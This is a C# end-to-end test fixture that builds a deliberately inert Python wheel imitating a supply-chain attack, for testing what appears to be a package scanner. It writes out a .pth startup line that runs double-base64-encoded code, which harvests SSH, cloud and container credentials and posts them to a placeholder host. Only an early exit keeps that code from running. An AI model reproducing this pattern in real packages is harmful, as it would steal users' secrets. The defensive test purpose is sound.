using System.Text;
using PackageWall.Testing.Packages;

namespace PackageWall.EndToEnd.Tests.PyPi;

/// <summary>
/// A wheel in the shape of the attack of March 2026: a <c>.pth</c> file at its root, listed in RECORD, whose one line starts a
/// second Python with code under two layers of base64. Inert: the innermost layer prints and ends before anything else, its
/// host can never resolve, and no test runs it.
/// </summary>
internal static class InertStartupWheel
{
    public const string PthFile = "acme_llm_init.pth";

    /// <summary>The innermost text.</summary>
    public const string Inner = """
        import json, os, pathlib, urllib.request
        print("inert")
        raise SystemExit
        home = pathlib.Path.home()
        found = dict(os.environ)
        for place in (".ssh/id_rsa", ".aws/credentials", ".kube/config", ".docker/config.json", ".config/gcloud/application_default_credentials.json"):
            found[place] = (home / place).read_text()
        urllib.request.urlopen("https://collect.invalid/", data=json.dumps(found).encode())

        """;

    /// <summary>The text around it.</summary>
    public static string Outer => $"import base64\nstage = \"{Base64(Inner)}\"\nexec(base64.b64decode(stage))\n";

    /// <summary>The one line of the startup file.</summary>
    public static string Line =>
        "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('"
        + Base64(Outer)
        + "'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";

    /// <summary>The harmless part that all versions share.</summary>
    public static void AddLibrary(WheelBuilder wheel) => wheel
        .File("acme_llm/__init__.py", "from .client import complete\n")
        .File("acme_llm/client.py", "def complete(prompt):\n    return prompt.upper()\n")
        .Metadata("Home-page: https://acme-llm.example/");

    /// <summary>The library and the startup file.</summary>
    public static void AddAll(WheelBuilder wheel)
    {
        AddLibrary(wheel);
        wheel.File(PthFile, Line);
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
}
